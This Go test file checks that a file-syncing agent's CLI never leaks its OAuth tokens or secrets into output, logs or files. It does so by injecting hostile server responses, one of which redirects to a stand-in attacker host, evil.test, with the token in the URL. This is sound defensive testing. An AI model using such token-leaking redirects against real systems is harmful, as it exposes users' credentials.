package cli

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"log"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"github.com/spf13/pflag"

	"hotfolder/sandbox"
)

// wiretap stands between the agent and the sandbox. It notes every token that goes by, and answers some calls itself: the
// way that servers and proxies do which tell the caller all that he sent, tokens included.
type wiretap struct {
	box http.Handler

	mu      sync.Mutex
	tokens  map[string]string // by token: what it is
	every   int               // so many calls, one is answered wrongly; 0: none
	calls   int
	answers int
}

func (t *wiretap) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		panic(http.ErrAbortHandler)
	}
	r.Body = io.NopCloser(bytes.NewReader(body))
	t.note("access token sent", strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
	if strings.HasPrefix(r.URL.Path, "/oauth/") {
		form, _ := url.ParseQuery(string(body))
		t.note("refresh token sent", form.Get("refresh_token"))
		t.note("device code sent", form.Get("device_code"))
	}
	if wrong := t.wrong(); wrong >= 0 {
		r.Body = io.NopCloser(bytes.NewReader(body[:min(len(body), 500)]))
		echo, _ := httputil.DumpRequest(r, true)
		misanswer(w, r, wrong, string(echo))
		return
	}
	recorded := httptest.NewRecorder()
	t.box.ServeHTTP(recorded, r)
	if strings.HasPrefix(r.URL.Path, "/oauth/") {
		var answer map[string]any
		_ = json.Unmarshal(recorded.Body.Bytes(), &answer)
		for _, what := range []string{"access_token", "refresh_token", "device_code"} {
			token, _ := answer[what].(string)
			t.note(what+" issued", token)
		}
		if answer["interval"] != nil {
			answer["interval"] = 1 // a person could not be so fast, the test must
			recorded.Body.Reset()
			_ = json.NewEncoder(recorded.Body).Encode(answer)
			recorded.Header().Del("Content-Length")
		}
	}
	for key, values := range recorded.Header() {
		w.Header()[key] = values
	}
	w.WriteHeader(recorded.Code)
	_, _ = recorded.Body.WriteTo(w)
}

// wrong tells which wrong answer this call gets, if any.
func (t *wiretap) wrong() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	if t.calls++; t.every == 0 || t.calls%t.every != 0 {
		return -1
	}
	t.answers++
	return t.answers - 1
}

func misanswer(w http.ResponseWriter, r *http.Request, n int, echo string) {
	token := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	quoted, _ := json.Marshal(echo)
	status := []int{400, 401, 402, 403, 422, 429, 500, 502, 503}[n/5%9]
	switch n % 5 {
	case 0: // the API
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		fmt.Fprintf(w, `{"status":%d,"error":"Refused %s","message":%s,"path":"/x?token=%[2]s"}`, status, token, quoted)
	case 1: // the auth server
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		fmt.Fprintf(w, `{"error":"temporarily_unavailable","error_description":%s}`, quoted)
	case 2: // a proxy
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(status)
		fmt.Fprintf(w, "<html><pre>%s</pre>", echo)
	case 3: // a login page
		http.Redirect(w, r, "http://"+strings.ToLower(token)+".evil.test/?token="+token, http.StatusFound)
	case 4: // half an answer
		w.Header().Set("Content-Length", "100000")
		_, _ = io.WriteString(w, echo)
		panic(http.ErrAbortHandler)
	}
}

func (t *wiretap) note(what, token string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	if token != "" && t.tokens[token] == "" {
		t.tokens[token] = what
	}
}

func (t *wiretap) setEvery(n int) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.every = n
}

// Whatever the agent and its commands meet, no token that ever existed is in what they said, logged or left on the disk, but for
// the files made for it.
func TestNoTokenIsEverTold(t *testing.T) {
	w := newWorld(t)
	w.box.SetFaults(sandbox.Faults{TokenCalls: 7, RotateRefreshTokens: true})
	tap := &wiretap{box: w.box.Handler(), tokens: map[string]string{}}
	server := httptest.NewUnstartedServer(tap)
	server.Config.ErrorLog = log.New(io.Discard, "", 0)
	server.Start()
	t.Cleanup(server.Close)
	w.url = server.URL

	var said buffer
	say := func(args ...string) {
		ctx, cancel := context.WithTimeout(t.Context(), 3*time.Second) // after which it is interrupted: a lost create is looked for long
		defer cancel()
		code := execute(ctx, append([]string{"--config", w.file}, args...), strings.NewReader(""), &said, &said)
		fmt.Fprintln(&said, args, code)
	}
	files := 0
	sayAll := func() {
		files++
		say("--config", w.path(fmt.Sprint("new", files, ".yaml")), "init", "--api", w.url, "--data-dir", w.path("data"),
			"--input", w.path("new/in"), "--organization", sandbox.Organization, "--workflow", sandbox.FastCheck)
		for _, command := range []string{
			"status", "status --json", "jobs", "jobs --json", "jobs --state failed", "check", "check --json", "organizations", "workflows --json",
			"balance", "retry --all", "version", "run --once=maybe", "nonsense", "init --input x", "report", "__complete jobs show a",
		} {
			say(strings.Fields(command)...)
		}
		for _, line := range strings.Split(strings.TrimSpace(w.run("jobs", "--json").stdout), "\n") {
			var job struct{ ID string }
			_ = json.Unmarshal([]byte(line), &job)
			say("jobs", "show", job.ID)
		}
	}

	for _, format := range []string{"text", "json"} {
		address, announced := freeAddress(t), freeAddress(t)
		w.configure(strings.Replace(studioConfig, `{listen: ""}`, `{listen: "`+address+`"}`, 1) + "log: {level: debug, format: " + format + ", file: " + format + ".log, compress: false}\n" +
			fmt.Sprintf("webhook: {listen: %q, url: %q}\n", announced, "http://"+announced))
		tap.setEvery(0)
		say("login")
		fmt.Fprintln(&said, w.runWith("no token at all\n", "login", "--refresh-token-stdin"))
		if format == "json" {
			fmt.Fprintln(&said, w.runWith(w.box.RefreshToken()+"\n", "login", "--refresh-token-stdin"))
		}
		tap.setEvery(3)
		w.drop("packshots/"+format+"1.jpg", "packshots/"+format+"2.jpg", "website/"+format+"3.jpg", "website/"+format+"bad.jpg")
		stop := w.start()
		w.noteControlToken(tap)
		w.awaitFile("data/webhook-secret")
		tap.note("webhook secret", string(readFile(t, w.path("data/webhook-secret"))))
		w.await("wrong answers", func() bool { sayAll(); tap.mu.Lock(); defer tap.mu.Unlock(); return tap.answers > 30 })
		for _, path := range []string{"/", "/metrics", "/healthz"} {
			code, shown := page(t, "http://"+address+path, "")
			if fmt.Fprintln(&said, shown); code != 200 {
				t.Errorf("%s: %d", path, code)
			}
		}
		fmt.Fprintln(&said, stop())
		tap.setEvery(0)
		say("run", "--once")
		sayAll()
		for _, command := range []string{"audit --results", "audit --json", "redeliver --missing"} {
			say(strings.Fields(command)...)
		}
	}
	tap.setEvery(2)
	say("run", "--once")
	say("login")
	tap.setEvery(0)

	w.box.RevokeRefreshTokens()
	w.box.RevokeTokens()
	sayAll()
	say("logout")
	sayAll()
	for n := range 5 { // each wrong answer to the revocation
		w.login()
		tap.setEvery(1)
		tap.answers = n
		say("logout")
		say("login", "--organization", "x")
		fmt.Fprintln(&said, w.runWith(w.box.RefreshToken()+"\n", "login", "--refresh-token-stdin"))
		tap.setEvery(0)
	}
	fmt.Fprintln(&said, w.runWith(w.box.RefreshToken()+"\n", "login", "--refresh-token-stdin", "--organization", "x"))
	say("logout")
	t.Setenv(refreshTokenVariable, w.box.RefreshToken())
	w.drop("website/given.jpg")
	say("run", "--once")
	sayAll()
	os.Unsetenv(refreshTokenVariable)

	w.login()
	file := w.path("data/credentials.json")
	if err := os.Truncate(file, 30); err != nil {
		t.Fatal(err)
	}
	sayAll()
	w.login()
	if err := os.Chmod(file, 0o644); err != nil {
		t.Fatal(err)
	}
	sayAll()
	w.login()
	secure := httptest.NewTLSServer(tap) // of which nobody knows the certificate
	secure.Config.ErrorLog = log.New(io.Discard, "", 0)
	t.Cleanup(secure.Close)
	for _, address := range []string{secure.URL, "http://127.0.0.1:1", "https" + strings.TrimPrefix(server.URL, "http")} {
		w.url = address
		w.configure(studioConfig)
		sayAll()
		say("login")
		say("run", "--once")
	}

	if len(tap.tokens) < 20 || !strings.Contains(said.String(), "open to others") && runtime.GOOS != "windows" ||
		!strings.Contains(said.String(), "is damaged") || !strings.Contains(said.String(), "Bearer …") {
		t.Errorf("the test met too little: %d tokens\n%s", len(tap.tokens), said.String())
	}
	tap.wantUntold(t, "what was said", []byte(said.String()))
	logs := tap.wantUntoldIn(t, w.dir, "credentials.json", "given-credentials.json", "control.json", "webhook-secret")
	if logs < 10 {
		t.Errorf("only %d files were looked into", logs)
	}
}

// noteControlToken notes the token of the agent that runs.
func (w *world) noteControlToken(tap *wiretap) {
	w.t.Helper()
	var contact struct{ Token string }
	data, err := os.ReadFile(w.path("data/control.json"))
	if err == nil {
		err = json.Unmarshal(data, &contact)
	}
	if err != nil || contact.Token == "" {
		w.t.Fatalf("the control token: %v in %s", err, data)
	}
	tap.note("control token", contact.Token)
}

// wantUntoldIn looks into every file below dir but those named so, and says into how many.
func (t *wiretap) wantUntoldIn(tt *testing.T, dir string, but ...string) (files int) {
	tt.Helper()
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		for _, name := range but {
			if d.Name() == name {
				return nil
			}
		}
		files++
		data, err := os.ReadFile(path)
		t.wantUntold(tt, path, data)
		t.wantUntold(tt, "the name of a file", []byte(path))
		return err
	})
	if err != nil {
		tt.Error(err)
	}
	return files
}

// wantUntold looks for each token, for its first and last letters (what shortens may have kept them), and for its base64.
func (t *wiretap) wantUntold(tt *testing.T, where string, text []byte) {
	tt.Helper()
	lower := bytes.ToLower(text)
	for token, what := range t.tokens {
		for _, form := range []string{token[:min(len(token), 12)], token[max(len(token)-12, 0):], base64.StdEncoding.EncodeToString([]byte(token))[:12]} {
			if at := bytes.Index(lower, bytes.ToLower([]byte(form))); at >= 0 {
				tt.Errorf("%s holds %s %s: … %q", where, what, token, text[max(at-200, 0):min(at+100, len(text))])
				break
			}
		}
	}
}

func TestDataFolderIsPrivate(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("has rights in the place of modes; see the tests of private")
	}
	w := newWorld(t)
	w.configure(studioConfig + "log: {file: data/hotfolder.log}\n")
	w.drop("packshots/a.jpg")
	stop := w.start()
	w.login()
	w.awaitFile("out/packshots/a.jpg")
	err := filepath.WalkDir(w.path("data"), func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err == nil && info.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s is open to others: %v", path, info.Mode())
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
	for _, name := range []string{"ledger.db", "credentials.json", "control.json", "hotfolder.log"} {
		if _, err := os.Stat(filepath.Join(w.path("data"), name)); err != nil {
			t.Error(err)
		}
	}
	stop()
}

// Everybody on the machine can read the arguments of a process: none of ours is a secret.
func TestNoArgumentIsASecret(t *testing.T) {
	var look func(c *cobra.Command)
	look = func(c *cobra.Command) {
		c.Flags().VisitAll(func(f *pflag.Flag) {
			for _, word := range []string{"token", "password", "secret"} {
				if strings.Contains(f.Name, word) && f.Value.Type() != "bool" && !strings.HasSuffix(f.Name, "-file") {
					t.Errorf("%s --%s takes a secret", c.CommandPath(), f.Name)
				}
			}
		})
		for _, sub := range c.Commands() {
			look(sub)
		}
	}
	look((&app{}).root())
}
